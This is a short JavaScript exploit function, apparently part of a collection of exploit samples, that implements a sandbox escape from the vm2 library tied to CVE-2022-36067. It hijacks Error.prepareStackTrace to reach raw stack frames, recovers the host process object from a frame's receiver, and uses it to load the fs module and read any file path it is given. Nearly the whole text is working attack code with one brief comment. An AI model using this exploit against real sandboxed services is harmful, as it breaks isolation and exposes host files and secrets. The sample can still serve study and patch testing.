// `Error.prepareStackTrace` is handed the frames, and these whatever `this` was in them.
// after: read
// source: vm2: CVE-2022-36067
async function attack({ path }) {
  Error.prepareStackTrace = (_, frames) => frames;
  const { stack } = new Error();
  Error.prepareStackTrace = undefined;
  const process = stack.map((frame) => frame.getThis()).find((self) => self?.process).process;
  return { text: await process.mainModule.require('fs').readFileSync(path) };
}
